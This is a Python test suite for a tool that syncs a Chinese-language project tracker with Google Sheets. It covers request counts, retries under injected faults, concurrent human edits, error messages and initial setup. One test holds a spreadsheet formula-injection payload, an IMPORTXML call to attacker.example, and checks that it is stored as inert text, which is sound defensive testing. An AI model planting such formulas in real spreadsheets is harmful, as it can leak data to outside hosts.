"""The Google Sheets backend, end to end: real gspread + google-auth against the local Sheets fake.

Covers the request budget, the fault matrix (every request position x 429 / 500 / 503 /
timeout / dropped connection, transient and persistent), the concurrent-edit matrix (a person
inserting, deleting, sorting rows, editing a cell, renaming a header or inserting a column
between the read and the write), error messages, formula-like text and ``init``.
"""

from __future__ import annotations

import datetime as dt
import json
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from sync.backends.gsheets import SheetsBackend, spreadsheet_key
from sync.cli import cli
from sync.config import Config
from sync.demo import SEED_ROWS
from sync.errors import AccessDenied, BackendUnavailable, TrackerError, TrackerNotFound
from sync.pipeline import RunResult, plan_run
from sync.rules import RuleSet
from sync.run import sync

from .conftest import SEED_AS_OF, header
from .sheets_fake import SheetsFake

TAB = "进度表"
NOW = dt.datetime(2024, 3, 20, 9, 0, tzinfo=dt.UTC)
HUMAN = 14  # human columns A..N


def make_config(fake: SheetsFake, sheet: str, sa: Path, **google: Any) -> Config:
    g = {
        "credentials": str(sa),
        "api_endpoint": fake.api_endpoint,
        "timeout": 2,
        "retry": {"attempts": 4, "max_seconds": 20},
    } | google
    return Config.model_validate(
        {
            "tracker": {"backend": "gsheets", "spreadsheet": sheet, "worksheet": TAB},
            "google": g,
            "calendar": {"country": "none"},  # the seed's figures below are in calendar days
        }
    )


def backend(config: Config, sa: Path) -> SheetsBackend:
    return SheetsBackend(
        config.tracker.spreadsheet or "",
        worksheet=config.tracker.worksheet,
        summary_title=config.summary_title(),
        google=config.google,
        credentials_path=sa,
        sleep=lambda s: None,  # backoff is asserted by count, not by waiting
    )


def run(config: Config, sa: Path) -> RunResult:
    return sync(config, as_of=SEED_AS_OF, backend=backend(config, sa), now=NOW)


def fresh_plan(config: Config, sa: Path, ruleset: RuleSet) -> Any:
    snap = backend(config, sa).read()
    return plan_run(
        snap,
        ruleset,
        as_of=SEED_AS_OF,
        now=NOW,
        summary_title=config.summary_title(),
        calendar=config.calendar,
    ).plan


def in_sync(config: Config, sa: Path, ruleset: RuleSet) -> bool:
    plan = fresh_plan(config, sa, ruleset)
    return (
        not plan.cells
        and plan.summary is None
        and plan.conditional_formats is None
        and plan.meta is None
    )


# ---------------------------------------------------------------------------- budget


def test_first_run_then_steady_state_request_budget(
    fake: SheetsFake, sheet: str, sa: Path, ruleset: RuleSet
) -> None:
    config = make_config(fake, sheet, sa)
    before = [r[:HUMAN] for r in fake.values(sheet, TAB)]
    first = run(config, sa)
    # the read is two requests (structure and formats, then the values); bootstrap: one
    # atomic batchUpdate of structure (no cell data), then the values through the anchors in
    # one request (the whole change fits google.max_request_bytes)
    assert first.requests == {"read": 2, "write": 2}
    assert fake.request_count("batchUpdate") == 1
    assert fake.request_count("values.batchUpdateByDataFilter") == 1
    structure = next(r for r in fake.requests if r.kind == "batchUpdate").body
    assert not any(
        "updateCells" in q or "values" in json.dumps(q.get("repeatCell", {}))
        for q in structure["requests"]
    ), "no cell values in the structural batch"
    values = fake.values(sheet, TAB)
    assert values[0][14:] == [
        "⚙ 计算状态",
        "⚙ 计划进度%",
        "⚙ 进度偏差(百分点)",
        "⚙ 延期天数",
        "⚙ 健康度",
        "⚙ 较基线(天)",
        "⚙ 问题",
        "⚙ 任务ID",
    ]
    assert values[1][14:19] == ["延期", 100, -40, 10, "红"]
    assert values[3][14:19] == ["进行中", 54.5, -24.5, 0, "黄"]
    assert [r[:HUMAN] for r in values] == before
    assert fake.sheet_titles(sheet) == [TAB, "推广概览"]
    assert fake.charts(sheet, "推广概览"), "the summary tab has its chart"
    formulas = [
        r["booleanRule"]["condition"]["values"][0]["userEnteredValue"]
        for r in fake.conditional_formats(sheet, TAB)
    ]
    assert '=$O2="延期"' in formulas and '=$S2="黄"' in formulas
    protected = fake.protected_ranges(sheet, TAB)
    assert len(protected) == 1 and protected[0]["warningOnly"] is True
    assert (
        protected[0]["range"]["startColumnIndex"] == 14
        and protected[0]["range"]["endColumnIndex"] == 22
    )

    fake.reset_log()
    second = run(config, sa)
    assert second.requests == {"read": 2, "write": 0}
    assert fake.request_count() == 2

    fake.set_cell(sheet, TAB, 2, 10, "100%")
    fake.set_cell(sheet, TAB, 2, 9, "2024-03-19")
    fake.reset_log()
    charts = fake.charts(sheet, "推广概览")
    third = run(config, sa)
    # the task left the summary's delayed list: the list keeps its reserved rows, so nothing
    # on the summary moves and its look and charts stay; one values write, its row cleared
    assert_one_values_write(fake, sheet, third, charts)
    assert third.summary.status_counts["delayed"] == 0
    assert fake.values(sheet, TAB)[1][14:19] == ["已完成", 100, 0, 9, "绿"]
    assert in_sync(config, sa, ruleset)


def assert_one_values_write(
    fake: SheetsFake, sheet: str, result: RunResult, charts: list[Any]
) -> None:
    """The run read twice and wrote once, values only: the summary's look and charts as they
    were, its cells as the run wanted them."""
    assert result.requests == {"read": 2, "write": 1}
    assert [r.kind for r in fake.requests if r.kind != "token"] == [
        "get",
        "values.batchGet",
        "values.batchUpdateByDataFilter",
    ]
    assert fake.charts(sheet, "推广概览") == charts, "the charts stay as they were"
    assert filled(fake.values(sheet, "推广概览")) == filled(result.desired.summary.rows)


def late_task(i: int) -> list[Any]:
    from .conftest import task

    return task(task=f"新任务{i}", planned_start="2024-03-01", planned_finish="2024-03-08",
                progress="10%", status="进行中")  # fmt: skip


def test_a_row_inserted_or_deleted_is_one_values_write(
    fake: SheetsFake, ruleset: RuleSet, sa: Path
) -> None:
    """A person inserts a task that is late (the summary's delayed list grows by one), then
    deletes a late one (it shrinks): the list keeps its reserved rows, so the summary's look
    and charts stay as they are and each run is 2 reads + 1 values write, no batchUpdate. Only
    a list that outgrows its reserved rows moves the layout: one restyle, the charts redrawn."""
    sheet = big_tracker(fake, ruleset, 40)
    config = make_config(fake, sheet, sa)
    first = run(config, sa)
    late = first.summary.status_counts["delayed"]
    charts = fake.charts(sheet, "推广概览")
    assert len(charts) == 3

    def steady(result: RunResult) -> None:
        assert_one_values_write(fake, sheet, result, charts)
        assert in_sync(config, sa, ruleset)

    fake.insert_rows(sheet, TAB, 5, [late_task(0)])
    fake.reset_log()
    inserted = run(config, sa)
    assert inserted.summary.status_counts["delayed"] == late + 1
    steady(inserted)
    fake.delete_rows(sheet, TAB, 5)  # the task just inserted
    fake.delete_rows(sheet, TAB, 3)  # and another late one
    fake.reset_log()
    deleted = run(config, sa)
    assert deleted.summary.status_counts["delayed"] == late - 1
    steady(deleted)

    # enough late tasks at once to outgrow the list's reserved rows: the layout moves, once
    room = deleted.desired.summary.capacity["delayed"]
    fake.insert_rows(sheet, TAB, 5, [late_task(i) for i in range(1, room - late + 3)])
    fake.reset_log()
    grown = run(config, sa)
    assert grown.desired.summary.capacity["delayed"] > room
    assert grown.requests == {"read": 2, "write": 2}
    assert [r.kind for r in fake.requests if r.kind != "token"] == [
        "get",
        "values.batchGet",
        "batchUpdate",
        "values.batchUpdateByDataFilter",
    ]
    restyle = next(r for r in fake.requests if r.kind == "batchUpdate").body["requests"]
    kinds = {k for q in restyle for k in q}
    assert kinds <= {"repeatCell", "updateDimensionProperties", "deleteEmbeddedObject",
                     "addChart", "updateDeveloperMetadata", "appendDimension"}, kinds  # fmt: skip
    assert len(fake.charts(sheet, "推广概览")) == 3, "the charts redrawn, not added twice"
    assert filled(fake.values(sheet, "推广概览")) == filled(grown.desired.summary.rows)
    assert in_sync(config, sa, ruleset)


def filled(rows: list[list[Any]]) -> dict[tuple[int, int], Any]:
    """The cells of a tab that hold something, by (row, column)."""
    return {
        (r, c): v for r, row in enumerate(rows) for c, v in enumerate(row) if v not in (None, "")
    }


def test_cli_json_reports_requests(fake: SheetsFake, sheet: str, sa: Path, tmp_path: Path) -> None:
    cfg = tmp_path / "config.yaml"
    cfg.write_text(
        f"tracker:\n  backend: gsheets\n  spreadsheet: https://docs.google.com/spreadsheets/d/{sheet}/edit#gid=0\n"
        f"google:\n  credentials: {sa.name}\n  api_endpoint: {fake.api_endpoint}\n",
        encoding="utf-8",
    )
    r = CliRunner().invoke(cli, ["run", "-c", str(cfg), "--today", "2024-03-20", "--json"])
    assert r.exit_code == 0, r.stderr
    data = json.loads(r.stdout)
    assert (
        data["requests"] == {"read": 2, "write": 2}  # structure, then values
        and data["tracker"] == sheet
        and data["worksheet"] == TAB
    )
    again = json.loads(
        CliRunner().invoke(cli, ["run", "-c", str(cfg), "--today", "2024-03-20", "--json"]).stdout
    )
    assert again["requests"] == {"read": 2, "write": 0}
    assert "token" not in r.stdout.lower() or "access_token" not in r.stdout


def test_formula_like_tracker_text_lands_in_the_summary_as_text(
    fake: SheetsFake, ruleset: RuleSet, sa: Path
) -> None:
    evil = '=IMPORTXML("http://attacker.example/x","//a")'
    rows = [list(r) for r in SEED_ROWS]
    rows[0][2] = evil  # the delayed task's name
    sheet = fake.add_spreadsheet(title="L", sheets={TAB: [header(ruleset), *rows]})
    run(make_config(fake, sheet, sa), sa)
    summary = fake.values(sheet, "推广概览")
    hits = [(r, c) for r, row in enumerate(summary) for c, v in enumerate(row) if v == evil]
    assert hits
    for r, c in hits:
        cell = fake.cell(sheet, "推广概览", r + 1, c + 1)
        assert cell["userEnteredValue"] == {"stringValue": evil}


def test_percent_cells_and_serial_dates_are_read(
    fake: SheetsFake, ruleset: RuleSet, sa: Path
) -> None:
    rows = [list(r) for r in SEED_ROWS]
    rows[0][5], rows[0][6], rows[0][9] = dt.date(2024, 3, 1), dt.date(2024, 3, 10), 0.6
    sheet = fake.add_spreadsheet(
        title="L", sheets={TAB: [header(ruleset), *rows]}, number_formats={TAB: {"J2": "0%"}}
    )
    result = run(make_config(fake, sheet, sa), sa)
    assert result.table.data.loc[2, "progress"] == 60.0
    assert result.table.data.loc[2, "planned_start"].date() == dt.date(2024, 3, 1)


# ---------------------------------------------------------------------------- faults


def _state(fake: SheetsFake, sheet: str) -> Any:
    snap = fake.snapshot(sheet)
    for s in snap["sheets"]:
        s.get("properties", {}).pop("gridProperties", None)
    return json.dumps(snap, sort_keys=True, default=str)


FAULTS: dict[str, dict[str, Any]] = {
    "429": {"status": 429, "retry_after": 0},
    "500": {"status": 500},
    "503": {"status": 503},
    "timeout": {"delay": 3},
    "drop": {"drop": True},
    "drop-after-apply": {"drop": True, "apply": True},  # the write landed, the reply was lost
}


@pytest.mark.parametrize("persistent", [False, True], ids=["transient", "persistent"])
@pytest.mark.parametrize("fault", list(FAULTS))
@pytest.mark.parametrize("scenario", ["first-run", "edit"])
@pytest.mark.parametrize("position", [1, 2], ids=["read", "write"])
def test_fault_matrix(
    fake: SheetsFake,
    sheet: str,
    sa: Path,
    ruleset: RuleSet,
    scenario: str,
    fault: str,
    persistent: bool,
    position: int,
) -> None:
    config = make_config(fake, sheet, sa, timeout=1, retry={"attempts": 3, "max_seconds": 10})
    if scenario == "edit":
        run(config, sa)
        fake.set_cell(sheet, TAB, 2, 10, "90%")
    before = _state(fake, sheet)
    humans = _humans(fake, sheet)
    fake.inject_fault(at=position, persistent=persistent, times=1, **FAULTS[fault])
    started = time.monotonic()
    try:
        result = run(config, sa)
        outcome = "ok"
    except BackendUnavailable as exc:
        outcome = str(exc)
        result = None
    elapsed = time.monotonic() - started
    fake.clear_faults()
    assert elapsed < 30, "bounded time"
    titles = fake.sheet_titles(sheet)
    assert titles.count("推广概览") <= 1, "never a duplicate summary tab"
    if outcome == "ok":
        assert result is not None
        assert in_sync(config, sa, ruleset), "a run that succeeds leaves the sheet fully synced"
    else:
        assert persistent, outcome
        assert "gave up after" in outcome
        # each request is all-or-nothing; a run that gives up between its structural batch and
        # its values leaves new, empty ⚙ columns: never a human cell touched, and the next run
        # carries on from there
        assert _humans(fake, sheet) == humans
        if _state(fake, sheet) != before:
            run(config, sa)
            assert in_sync(config, sa, ruleset), "the next run completes the sync"


def test_retry_after_is_honoured(fake: SheetsFake, sheet: str, sa: Path) -> None:
    config = make_config(fake, sheet, sa)
    waits: list[float] = []
    b = backend(config, sa)
    b.policy.sleep = waits.append
    fake.inject_fault(at=1, status=429, retry_after=7)
    sync(config, as_of=SEED_AS_OF, backend=b, now=NOW)
    assert waits == [7.0]


def test_quota_error_says_which_quota_and_when(fake: SheetsFake, sheet: str, sa: Path) -> None:
    config = make_config(fake, sheet, sa)
    fake.inject_fault(
        at=1,
        status=429,
        persistent=True,
        retry_after=30,
        message="Quota exceeded for quota metric 'Read requests' and limit 'Read requests per minute per user'",
    )
    with pytest.raises(BackendUnavailable) as exc:
        run(config, sa)
    assert "Read requests per minute per user" in str(exc.value) and "after 30 s" in str(exc.value)


# ---------------------------------------------------------------------------- people editing


def _ids_match_tasks(
    fake: SheetsFake, sheet: str, config: Config, sa: Path, ruleset: RuleSet
) -> None:
    """Every row that carries generated values carries the values of its own task."""
    plan = fresh_plan(config, sa, ruleset)
    values = fake.values(sheet, TAB)
    for col, series in plan.cells.items():
        for r in series.index:
            # a difference is allowed only where nothing was written yet (a row a person just added)
            assert all(v in (None, "") for v in values[int(r)][14:20]), (col, r, values[int(r)])


EDITS: dict[str, Callable[[SheetsFake, str], Any]] = {
    "insert-row": lambda f, s: f.insert_rows(
        s,
        TAB,
        3,
        [
            [
                "新阶段",
                "抖音",
                "新任务",
                "新描述",
                "张三",
                "2024-03-01",
                "2024-03-05",
                "-",
                "-",
                "0%",
                "未开始",
            ]
        ],
    ),
    "delete-row": lambda f, s: f.delete_rows(s, TAB, 2),
    "sort-rows": lambda f, s: f.sort_rows(s, TAB, 2, 5, 4, descending=True),
    "edit-cell": lambda f, s: f.set_cell(s, TAB, 4, 5, "王五"),
    "rename-header": lambda f, s: f.rename_header(s, TAB, "备注", "备注说明"),
    "insert-column": lambda f, s: f.insert_columns(s, TAB, 3, 1),
}


@pytest.mark.parametrize("edit", list(EDITS))
@pytest.mark.parametrize("scenario", ["first-run", "steady"])
def test_concurrent_edit_matrix(
    fake: SheetsFake, sheet: str, sa: Path, ruleset: RuleSet, scenario: str, edit: str
) -> None:
    config = make_config(fake, sheet, sa)
    if scenario == "steady":
        run(config, sa)
        fake.set_cell(sheet, TAB, 2, 10, "70%")
        fake.set_cell(sheet, TAB, 5, 10, "10%")
    expected_humans: list[list[Any]] = []

    def person(f: SheetsFake) -> None:
        EDITS[edit](f, sheet)
        expected_humans.extend(_humans(f, sheet))

    fake.on_request(2, person)  # right after the read, before the write
    run(config, sa)
    assert _humans(fake, sheet) == expected_humans, "no human cell changed by the job"
    _ids_match_tasks(fake, sheet, config, sa, ruleset)
    assert fake.sheet_titles(sheet).count("推广概览") == 1


def _humans(fake: SheetsFake, sheet: str, tab: str = TAB) -> list[list[Any]]:
    """Every cell whose column header is not the job's."""
    values = fake.values(sheet, tab)
    head = next(row for row in values if any(str(v).startswith("⚙") for v in row) or len(row) > 5)
    human = [c for c, h in enumerate(head) if not str(h).startswith("⚙")]
    cells = [[row[c] if c < len(row) else None for c in human] for row in values]
    return [[None if v == "" else v for v in row] for row in cells]  # values() pads rows with ""


# ---------------------------------------------------------------------------- errors


def test_not_shared_says_whom_to_share_with(fake: SheetsFake, sheet: str, sa: Path) -> None:
    fake.set_access(sheet, "none")
    with pytest.raises(
        AccessDenied,
        match=r"Share the spreadsheet with tracker-bot@fake-project\.iam\.gserviceaccount\.com as Editor",
    ):
        run(make_config(fake, sheet, sa), sa)


def test_wrong_key_says_so(fake: SheetsFake, sa: Path) -> None:
    with pytest.raises(
        TrackerNotFound, match=r"spreadsheet nope123 not found: check tracker\.spreadsheet"
    ):
        run(make_config(fake, "nope123", sa), sa)


def test_missing_tab_lists_the_tabs(fake: SheetsFake, sheet: str, sa: Path) -> None:
    config = make_config(fake, sheet, sa)
    config = config.model_copy(
        update={"tracker": config.tracker.model_copy(update={"worksheet": "Plan"})}
    )
    with pytest.raises(TrackerNotFound, match=r"no tab named 'Plan'; the tabs are: '进度表'"):
        run(config, sa)


def test_credentials_never_appear_in_errors(
    fake: SheetsFake, sheet: str, sa: Path, tmp_path: Path
) -> None:
    key = json.loads(sa.read_text())["private_key"]
    fake.set_access(sheet, "none")
    cfg = tmp_path / "c.yaml"
    cfg.write_text(
        f"tracker:\n  backend: gsheets\n  spreadsheet: {sheet}\ngoogle:\n  credentials: {sa}\n  api_endpoint: {fake.api_endpoint}\n",
        encoding="utf-8",
    )
    r = CliRunner().invoke(cli, ["run", "-c", str(cfg)])
    assert r.exit_code == 3
    assert key.splitlines()[1] not in r.output and "Bearer" not in r.output


def test_missing_credentials_file_is_a_config_error(
    fake: SheetsFake, sheet: str, tmp_path: Path
) -> None:
    cfg = tmp_path / "c.yaml"
    cfg.write_text(
        f"tracker:\n  backend: gsheets\n  spreadsheet: {sheet}\ngoogle:\n  credentials: nope.json\n",
        encoding="utf-8",
    )
    r = CliRunner().invoke(cli, ["run", "-c", str(cfg)])
    assert r.exit_code == 2 and "google.credentials: credentials file" in r.stderr


def test_spreadsheet_key_from_url() -> None:
    assert (
        spreadsheet_key("https://docs.google.com/spreadsheets/d/abc_DEF-1/edit#gid=0")
        == "abc_DEF-1"
    )
    assert spreadsheet_key(" abc ") == "abc"


# ---------------------------------------------------------------------------- init


def test_init_adds_a_template_tab_with_protected_generated_columns(
    fake: SheetsFake, sa: Path, tmp_path: Path
) -> None:
    sheet = fake.add_spreadsheet(title="Launch", sheets={"Sheet1": [["notes"]]})
    cfg = tmp_path / "config.yaml"
    cfg.write_text(
        f"tracker:\n  backend: gsheets\n  spreadsheet: {sheet}\ngoogle:\n  credentials: {sa.name}\n  api_endpoint: {fake.api_endpoint}\n",
        encoding="utf-8",
    )
    r = CliRunner().invoke(cli, ["init", "--spreadsheet", sheet, "-c", str(cfg)])
    assert r.exit_code == 0, r.stderr
    assert "Added tab '推广进度表'" in r.output
    assert fake.sheet_titles(sheet) == ["Sheet1", "推广进度表", "推广概览"]
    head = fake.values(sheet, "推广进度表")[0]
    assert (
        head[:3] == ["推广阶段", "推广渠道", "核心任务"]
        and head[14] == "⚙ 计算状态"
        and head[21] == "⚙ 任务ID"
    )
    props = next(
        s for s in fake.snapshot(sheet)["sheets"] if s["properties"]["title"] == "推广进度表"
    )
    assert props["properties"]["gridProperties"]["frozenRowCount"] == 1
    status = fake.cell(sheet, "推广进度表", "K2")
    assert [v["userEnteredValue"] for v in status["dataValidation"]["condition"]["values"]] == [
        "未开始",
        "进行中",
        "已完成",
        "延期",
    ]
    assert (
        fake.cell(sheet, "推广进度表", "F2")["userEnteredFormat"]["numberFormat"]["type"] == "DATE"
    )
    protected = fake.protected_ranges(sheet, "推广进度表")
    assert protected and all(p["warningOnly"] for p in protected)
    assert fake.values(sheet, "Sheet1") == [["notes"]], "other tabs untouched"
    again = CliRunner().invoke(cli, ["init", "--spreadsheet", sheet, "-c", str(cfg)])
    assert again.exit_code == 3 and "already has a tab named '推广进度表'" in again.stderr


def test_a_synced_xlsx_uploaded_to_sheets_is_adopted(
    fake: SheetsFake, sa: Path, tmp_path: Path, ruleset: RuleSet
) -> None:
    from sync.demo import write_demo

    tracker, _ = write_demo(tmp_path / "d", ruleset, dt.date(2024, 3, 20))
    runner = CliRunner().invoke(
        cli, ["run", "-c", str(tmp_path / "d" / "config.yaml"), "--today", "2024-03-20"]
    )
    assert runner.exit_code == 0
    sheet = fake.load_xlsx(tracker, title="Uploaded")
    config = make_config(fake, sheet, sa)
    config = config.model_copy(
        update={"tracker": config.tracker.model_copy(update={"worksheet": "推广进度表"})}
    )
    first = run(config, sa)
    assert first.requests["write"] <= 2
    second = run(config, sa)
    assert second.requests == {"read": 2, "write": 0}
    head = fake.values(sheet, "推广进度表")[1]
    assert sum(1 for h in head if str(h).startswith("⚙")) == 8, (
        "the uploaded columns were adopted, not duplicated"
    )
    keys = sorted(
        m["metadataValue"]
        for m in fake.developer_metadata(sheet, "推广进度表", key="tracker_sync.column")
    )
    assert keys == sorted(
        [
            "gen_status",
            "gen_planned",
            "gen_deviation",
            "gen_days_late",
            "gen_health",
            "gen_baseline",
            "gen_issues",
            "gen_id",
        ]
    )


def test_adoption_is_undone_when_columns_move_under_it(
    fake: SheetsFake, sa: Path, tmp_path: Path, ruleset: RuleSet
) -> None:
    from sync.demo import write_demo

    tracker, cfg = write_demo(tmp_path / "d", ruleset, dt.date(2024, 3, 20))
    CliRunner().invoke(cli, ["run", "-c", str(cfg), "--today", "2024-03-20"])
    sheet = fake.load_xlsx(tracker, title="Uploaded")
    config = make_config(fake, sheet, sa)
    config = config.model_copy(
        update={"tracker": config.tracker.model_copy(update={"worksheet": "推广进度表"})}
    )
    before: list[list[Any]] = []

    def person(f: SheetsFake) -> None:
        f.insert_columns(sheet, "推广进度表", 3, 1)
        f.set_cell(sheet, "推广进度表", 2, 3, "预算")
        before.extend(_humans(f, sheet, "推广进度表"))

    fake.on_request(2, person)
    result = run(config, sa)
    assert result.requests["read"] == 4, "the run started over after undoing its anchors"
    assert _humans(fake, sheet, "推广进度表") == before
    anchored = {
        m["metadataValue"]: m
        for m in fake.developer_metadata(sheet, "推广进度表", key="tracker_sync.column")
    }
    assert len(anchored) == 8
    head = fake.values(sheet, "推广进度表")[1]
    for key, meta in anchored.items():
        col = meta["location"]["dimensionRange"]["startIndex"]
        assert str(head[col]).startswith("⚙"), (key, col, head[col])


def test_restore_writes_a_past_run_into_a_new_tab(
    fake: SheetsFake, sheet: str, sa: Path, tmp_path: Path
) -> None:
    from sync.run import restore_run

    config = make_config(fake, sheet, sa).model_copy(
        update={
            "history": Config.model_validate(
                {"tracker": {"path": "x"}, "history": {"path": str(tmp_path / "h.sqlite")}}
            ).history
        }
    )
    before = [row[:HUMAN] for row in fake.values(sheet, TAB)]
    run(config, sa)
    fake.set_cell(sheet, TAB, 2, 10, "95%")
    run(config, sa)
    rows = restore_run(config, 1, "3月20日", backend=backend(config, sa))
    assert rows == len(before)
    restored = fake.values(sheet, "3月20日")
    assert [r + [""] * (len(b) - len(r)) for r, b in zip(restored, before, strict=True)] == before
    assert fake.values(sheet, TAB)[1][9] == "95%", "the live tab keeps today's cells"
    with pytest.raises(Exception, match="already has a tab named '3月20日'"):
        restore_run(config, 1, "3月20日", backend=backend(config, sa))


# ---------------------------------------------------------------------------- scoped anchors


def _copy_tab(fake: SheetsFake, sheet: str, *, with_metadata: bool) -> str:
    """A person duplicates the tracker tab; Google may or may not copy the column metadata
    (unverified), so the tests run both."""
    sid = fake.sheet_properties(sheet, TAB)["sheetId"]
    fake.apply_requests(sheet, [{"duplicateSheet": {"sourceSheetId": sid, "newSheetName": "副本"}}])
    if with_metadata:
        copy_id = fake.sheet_properties(sheet, "副本")["sheetId"]
        fake.apply_requests(
            sheet,
            [
                {
                    "createDeveloperMetadata": {
                        "developerMetadata": {
                            "metadataKey": "tracker_sync.column",
                            "metadataValue": m["metadataValue"],
                            "location": {
                                "dimensionRange": {
                                    "sheetId": copy_id,
                                    "dimension": "COLUMNS",
                                    "startIndex": m["location"]["dimensionRange"]["startIndex"],
                                    "endIndex": m["location"]["dimensionRange"]["endIndex"],
                                }
                            },
                            "visibility": "DOCUMENT",
                        }
                    }
                }
                for m in fake.developer_metadata(sheet, TAB, key="tracker_sync.column")
            ],
        )
    return "副本"


@pytest.mark.parametrize("with_metadata", [True, False])
def test_writes_reach_only_the_tracker_tab_even_when_a_copy_carries_the_anchors(
    fake: SheetsFake, sheet: str, sa: Path, with_metadata: bool
) -> None:
    config = make_config(fake, sheet, sa)
    run(config, sa)
    copy = _copy_tab(fake, sheet, with_metadata=with_metadata)
    before = fake.values(sheet, copy)
    generated = fake.values(sheet, TAB)[4][14:20]
    fake.set_cell(sheet, TAB, 5, 10, "20%")  # a person reports progress on task 4, on the tracker
    result = run(config, sa)
    assert result.applied is not None and result.plan.cells
    assert fake.values(sheet, TAB)[4][14:20] != generated, "the tracker got its values"
    assert fake.values(sheet, copy) == before, "the copy got nothing"


def test_an_anchor_on_two_columns_of_the_tracker_stops_the_run_before_writing(
    fake: SheetsFake, sheet: str, sa: Path
) -> None:
    config = make_config(fake, sheet, sa)
    run(config, sa)
    sid = fake.sheet_properties(sheet, TAB)["sheetId"]
    fake.apply_requests(
        sheet,
        [
            {
                "createDeveloperMetadata": {
                    "developerMetadata": {
                        "metadataKey": "tracker_sync.column",
                        "metadataValue": "gen_status",
                        "location": {
                            "dimensionRange": {
                                "sheetId": sid,
                                "dimension": "COLUMNS",
                                "startIndex": 13,  # 备注, a person's column
                                "endIndex": 14,
                            }
                        },
                        "visibility": "DOCUMENT",
                    }
                }
            }
        ],
    )
    fake.set_cell(sheet, TAB, 5, 10, "20%")
    before = fake.values(sheet, TAB)
    with pytest.raises(TrackerError, match="gen_status is on more than one column"):
        run(config, sa)
    assert fake.values(sheet, TAB) == before


# ---------------------------------------------------------------------------- size-bounded writes


def big_tracker(fake: SheetsFake, ruleset: RuleSet, rows: int, **kwargs: Any) -> str:
    """A tracker of ``rows`` distinct tasks (enough to need several requests at a small budget)."""
    from .conftest import task

    body = [
        task(
            task=f"任务{i:04d}",
            description=f"第{i}项：完成素材制作与发布",
            progress=f"{(i * 7) % 100}%",
            status="进行中" if i % 3 else "未开始",
            planned_start="2024-03-01",
            planned_finish=f"2024-03-{1 + i % 28:02d}",
        )
        for i in range(rows)
    ]
    return fake.add_spreadsheet(title="Big", sheets={TAB: [header(ruleset), *body]}, **kwargs)


def _write_sizes(fake: SheetsFake) -> list[tuple[str, int]]:
    return [
        (r.kind, r.body_size)
        for r in fake.requests
        if r.kind in ("batchUpdate",) or r.kind.startswith("values.batchUpdate")
    ]


def test_values_are_written_in_requests_no_larger_than_max_request_bytes(
    fake: SheetsFake, ruleset: RuleSet, sa: Path
) -> None:
    sheet = big_tracker(fake, ruleset, 300)
    config = make_config(fake, sheet, sa, max_request_bytes=20_000)
    before = _humans(fake, sheet)
    first = run(config, sa)
    sizes = _write_sizes(fake)
    assert sizes[0][0] == "batchUpdate" and all(k.startswith("values.") for k, _ in sizes[1:])
    assert len(sizes) >= 4, "the first run's values took several requests"
    # the structural batch holds no cell data: its size does not grow with the rows (the
    # summary's look is one repeatCell per rectangle of like cells: per table, not per row;
    # tests/test_summary_layout.py checks it does not grow)
    assert sizes[0][1] < 100_000 and all(n <= 20_000 for _, n in sizes[1:]), sizes
    assert first.requests == {"read": 2, "write": len(sizes)}
    assert _humans(fake, sheet) == before
    assert in_sync(config, sa, ruleset)

    fake.reset_log()
    assert run(config, sa).requests == {"read": 2, "write": 0}
    fake.set_cell(sheet, TAB, 120, 10, "100%")
    fake.reset_log()
    run(config, sa)
    # the task completed leaves the summary's delayed list: its look is redone in one structural
    # batch; the values still go in one write
    values = [k for k, _ in _write_sizes(fake) if k.startswith("values.")]
    assert values == ["values.batchUpdateByDataFilter"], "a change that fits is one write"
    assert len(_write_sizes(fake)) <= 2
    assert in_sync(config, sa, ruleset)


def test_a_request_google_refuses_as_too_large_is_explained(
    ruleset: RuleSet, tmp_path: Path
) -> None:
    # (80 kB: the first run's structure — the summary's look and charts included — fits)
    with SheetsFake(max_request_bytes=80_000) as small:
        sheet = big_tracker(small, ruleset, 300)
        sa = small.write_service_account(tmp_path / "sa.json")
        config = make_config(small, sheet, sa, max_request_bytes=200_000)
        with pytest.raises(TrackerError) as exc:
            run(config, sa)
        message = str(exc.value)
        assert "Request payload size exceeds the limit: 80000 bytes" in message
        assert "google.max_request_bytes (200,000 bytes)" in message and "Lower" in message
        # a smaller budget gets through
        smaller = make_config(small, sheet, sa, max_request_bytes=20_000)
        run(smaller, sa)
        assert in_sync(smaller, sa, ruleset)


# ---------------------------------------------------------------------------- rules by identity

#: A person's highlight: in-progress rows, in the job's own amber (FFF3CD).
PERSON_FORMULA = '=$K2="进行中"'


def person_rule(sheet_id: int = 0) -> dict[str, Any]:
    return {
        "ranges": [
            {
                "sheetId": sheet_id,
                "startRowIndex": 1,
                "endRowIndex": 100,
                "startColumnIndex": 0,
                "endColumnIndex": 14,
            }
        ],
        "booleanRule": {
            "condition": {
                "type": "CUSTOM_FORMULA",
                "values": [{"userEnteredValue": PERSON_FORMULA}],
            },
            "format": {"backgroundColor": {"red": 1, "green": 243 / 255, "blue": 205 / 255}},
        },
    }


def persons_rules(fake: SheetsFake, sheet: str) -> list[dict[str, Any]]:
    return [
        r
        for r in fake.conditional_formats(sheet, TAB)
        if r["booleanRule"]["condition"]["values"][0]["userEnteredValue"] == PERSON_FORMULA
    ]


def job_rule_count(fake: SheetsFake, sheet: str) -> int:
    return len(fake.conditional_formats(sheet, TAB)) - len(persons_rules(fake, sheet))


def test_a_persons_rule_in_the_jobs_colour_is_never_taken_for_the_jobs(
    fake: SheetsFake, sheet: str, sa: Path, ruleset: RuleSet
) -> None:
    fake.apply_requests(sheet, [{"addConditionalFormatRule": {"rule": person_rule(), "index": 0}}])
    theirs = persons_rules(fake, sheet)
    config = make_config(fake, sheet, sa)
    run(config, sa)
    wanted = len(fresh_plan_rules(config, sa, ruleset))
    assert persons_rules(fake, sheet) == theirs and job_rule_count(fake, sheet) == wanted
    # the job's own rules are deleted and made again (a person deleted one of them): theirs stay
    fake.apply_requests(sheet, [{"deleteConditionalFormatRule": {"sheetId": 0, "index": 3}}])
    run(config, sa)
    assert persons_rules(fake, sheet) == theirs and job_rule_count(fake, sheet) == wanted
    record = fake.developer_metadata(sheet, key="tracker_sync.formats")
    assert len(record) == 1 and json.loads(record[0]["metadataValue"])["sheetId"] == 0
    assert in_sync(config, sa, ruleset)


def fresh_plan_rules(config: Config, sa: Path, ruleset: RuleSet) -> Any:
    snap = backend(config, sa).read()
    return snap.conditional_formats


@pytest.mark.parametrize("edit", ["insert", "delete"])
def test_a_row_inserted_or_deleted_costs_one_read_and_one_write(
    fake: SheetsFake, sheet: str, sa: Path, ruleset: RuleSet, edit: str
) -> None:
    config = make_config(fake, sheet, sa)
    run(config, sa)
